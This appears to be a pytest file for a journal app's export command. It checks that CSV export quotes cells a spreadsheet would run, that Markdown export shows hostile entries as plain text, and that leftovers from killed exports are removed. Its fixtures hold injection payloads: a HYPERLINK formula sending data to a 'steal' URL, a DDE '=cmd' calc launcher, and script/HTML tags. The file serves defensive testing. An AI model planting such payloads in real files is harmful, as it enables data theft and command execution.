"""Exports that are safe where they land: a spreadsheet runs no formula, a Markdown
reader sees the diary as written, and a killed export leaves no copy of the journal.

The clock is stopped on Sunday 22 November 2026 (week 2026-W47) in Berlin.
"""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from tests.conftest import Cli, assert_user_error

pytestmark = pytest.mark.usefixtures("clock")

#: Texts a spreadsheet would run, or whose first character it would hide.
FORMULAS = [
    '=HYPERLINK("https://example.com/steal?d="&A1,"Click me")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed =1+1",
    "\rReturned =1+1",
    "'Twas a quiet night",
]

#: An entry that tries every way Markdown has to become something other than text.
HOSTILE = "\n".join(
    [
        "It began well",
        "# not a heading",
        "## nor this",
        "- not a list",
        "* nor this",
        "+ nor this",
        "1. not numbered",
        "2) nor this",
        "> not a quote",
        "    not code",
        "\tnor this",
        "```",
        "not a fence",
        "~~~",
        "<div onclick=x>not html</div>",
        "<script>alert(1)</script>",
        "[not a link](https://example.com) ![nor an image](https://example.com/t.png)",
        "<https://example.com> **not bold** _nor italic_ `nor code` ~~nor struck~~",
        "| not | a table |",
        "| --- | --- |",
        "[ref]: https://example.com",
        "&amp; &#42; stay as typed",
        "Underlined?",
        "===",
        "---",
        "",
        "A second paragraph \\",
        "ends here",
    ]
)


def set_text(db_path: Path, entry: int, text: str) -> None:
    """Store ``text`` as it might arrive from a bundle, an import or a restored journal."""
    connection = sqlite3.connect(db_path)
    try:
        connection.execute("UPDATE entry SET text = ? WHERE id = ?", (text, entry))
        connection.commit()
    finally:
        connection.close()


def rename_person(db_path: Path, name: str) -> None:
    connection = sqlite3.connect(db_path)
    try:
        connection.execute("UPDATE person SET name = ?", (name,))
        connection.commit()
    finally:
        connection.close()


# --- CSV ---------------------------------------------------------------------------------


@pytest.fixture
def formulas(cli: Cli, db_path: Path) -> Cli:
    for number, text in enumerate(FORMULAS, start=1):
        cli.ok("add", f"Moment {number}", "--when", f"2026-11-{10 + number}T20:00")
        set_text(db_path, number, text)
    cli.ok("add", "An ordinary evening with @Sam", "--when", "2026-11-20T20:00")
    rename_person(db_path, "=cmd|'/c calc'!A1")
    return cli


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(formulas: Cli) -> None:
    rows = read_csv(formulas.ok("export", "-f", "csv").stdout)
    for row, text in zip(rows, FORMULAS, strict=False):
        assert row["text"] == f"'{text}"
    ordinary = rows[-1]
    assert ordinary["text"] == "An ordinary evening with @Sam"  # an @ inside is nothing
    assert ordinary["people"] == "'=cmd|'/c calc'!A1"
    assert ordinary["occurred_at"].startswith("2026-11-20T20:00")
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_a_carriage_return_in_a_cell_does_not_end_the_row(
    cli: Cli, db_path: Path, tmp_path: Path
) -> None:
    cli.ok("add", "Placeholder")
    set_text(db_path, 1, 'one\rtwo, "three"\r\nfour\n')
    path = tmp_path / "out.csv"
    for options in ([], ["--raw"]):
        cli.ok("export", "-o", str(path), *options)  # a file: the runner's stdout reads CR LF
        (row,) = read_csv(path.read_bytes().decode("utf-8"))
        assert row["text"] == 'one\rtwo, "three"\r\nfour\n'


def test_taking_one_quote_off_gives_back_what_was_stored(formulas: Cli) -> None:
    safe = read_csv(formulas.ok("export", "-f", "csv").stdout)
    raw = read_csv(formulas.ok("export", "-f", "csv", "--raw").stdout)
    assert [row["text"] for row in raw] == [*FORMULAS, "An ordinary evening with @Sam"]
    assert raw[-1]["people"] == "=cmd|'/c calc'!A1"
    for safe_row, raw_row in zip(safe, raw, strict=True):
        assert {
            column: cell[1:] if cell.startswith("'") else cell for column, cell in safe_row.items()
        } == raw_row


def test_raw_is_for_csv_only(formulas: Cli, tmp_path: Path) -> None:
    assert_user_error(formulas("export", "-f", "json", "--raw"), 2, "--raw is for CSV")
    assert_user_error(formulas("export", "-o", str(tmp_path / "a.md"), "--raw"), 2, "not markdown")
    assert not (tmp_path / "a.md").exists()
    formulas.ok("export", "-o", str(tmp_path / "a.csv"), "--raw")
    assert read_csv((tmp_path / "a.csv").read_text(encoding="utf-8"))[0]["text"] == FORMULAS[0]


def test_json_stays_exact(formulas: Cli) -> None:
    import json

    entries = json.loads(formulas.ok("export").stdout)["entries"]
    assert [entry["text"] for entry in entries][: len(FORMULAS)] == FORMULAS


# --- Markdown ----------------------------------------------------------------------------

PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
#: What the page's own structure is made of; nothing an entry says may add to it.
OURS = {
    "heading_open",
    "heading_close",
    "paragraph_open",
    "paragraph_close",
    "inline",
    "bullet_list_open",
    "bullet_list_close",
    "list_item_open",
    "list_item_close",
}


def tokens(page: str) -> list[Token]:
    return PARSER.parse(page)


def inline_children(page: str) -> set[str]:
    return {child.type for token in tokens(page) if token.children for child in token.children}


def plain(token: Token) -> str:
    """What an inline token shows: its text, hard breaks as line breaks."""
    assert token.children is not None
    return "".join("\n" if child.type == "hardbreak" else child.content for child in token.children)


@pytest.fixture
def hostile(cli: Cli, db_path: Path) -> Cli:
    cli.ok("add", "Placeholder @Sam #trust", "--when", "2026-11-20T20:00", "-c", "4")
    set_text(db_path, 1, HOSTILE)
    rename_person(db_path, "<img src=https://example.com/t.png> **Sam**")
    return cli


def test_an_entry_cannot_change_the_shape_of_the_page(hostile: Cli) -> None:
    page = hostile.ok("export", "-f", "markdown").stdout
    found = tokens(page)
    assert {token.type for token in found} <= OURS
    headings = [token for token in found if token.type == "heading_open"]
    assert [token.tag for token in headings] == ["h1", "h2", "h3"]  # the page, the day, the moment
    assert inline_children(page) <= {"text", "hardbreak", "softbreak"}


def test_an_entry_reads_as_written_line_by_line(hostile: Cli) -> None:
    page = hostile.ok("export", "-f", "markdown").stdout
    paragraphs = [
        plain(token)
        for previous, token in zip(tokens(page), tokens(page)[1:], strict=False)
        if previous.type == "paragraph_open" and previous.level == 0
    ]
    first, second = HOSTILE.split("\n\n")
    # leading spaces and tabs are kept as no-break spaces, so they indent nothing
    shown_first = first.replace("    not code", "\u00a0" * 4 + "not code").replace(
        "\tnor this", "\u00a0" * 4 + "nor this"
    )
    assert paragraphs[1:3] == [shown_first, second]


def test_names_in_the_facts_are_text_too(hostile: Cli) -> None:
    page = hostile.ok("export", "-f", "markdown").stdout
    facts = [plain(token) for token in tokens(page) if token.type == "inline" and token.level == 3]
    assert "With: <img src=https://example.com/t.png> **Sam**" in facts


def test_the_review_agenda_quotes_moments_as_text(cli: Cli, db_path: Path) -> None:
    cli.ok("add", "Placeholder @Sam", "--when", "2026-11-20T20:00", "-c", "5")
    set_text(db_path, 1, "![seen](https://example.com/t.png) <b>bold</b> [link](https://x)")
    page = cli.ok("review", "--markdown", "-").stdout
    children = inline_children(page)
    assert children.isdisjoint({"image", "link_open", "html_inline"}), children
    assert "![seen](https://example.com/t.png) <b>bold</b> [link](https://x)" in {
        plain(token).split(": ", 1)[-1] for token in tokens(page) if token.type == "inline"
    }


# --- what a killed export leaves behind ---------------------------------------------------


def finished_pid() -> int:
    completed = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        capture_output=True,
        text=True,
        check=True,
    )
    return int(completed.stdout)


def left_behind(folder: Path, name: str, *, pid: int, age: float) -> Path:
    leftover = folder / f".{name}.connectlog-{pid}-k1ll3d_x.tmp"
    leftover.write_text('{"entries": ["the whole journal, private ones too"]}')
    leftover.chmod(0o600)
    then = time.time() - age
    os.utime(leftover, (then, then))
    return leftover


def test_the_next_export_to_the_same_place_removes_what_a_killed_one_left(
    cli: Cli, tmp_path: Path
) -> None:
    cli.ok("add", "A moment")
    folder = tmp_path / "exports"
    folder.mkdir()
    stale = left_behind(folder, "journal.json", pid=finished_pid(), age=120)
    writing = left_behind(folder, "journal.json", pid=os.getppid(), age=120)  # still alive
    other = left_behind(folder, "other.json", pid=finished_pid(), age=120)
    cli.ok("export", "-o", str(folder / "journal.json"))
    assert not stale.exists()
    assert writing.exists() and other.exists()
    assert sorted(path.name for path in folder.iterdir()) == sorted(
        ["journal.json", writing.name, other.name]
    )
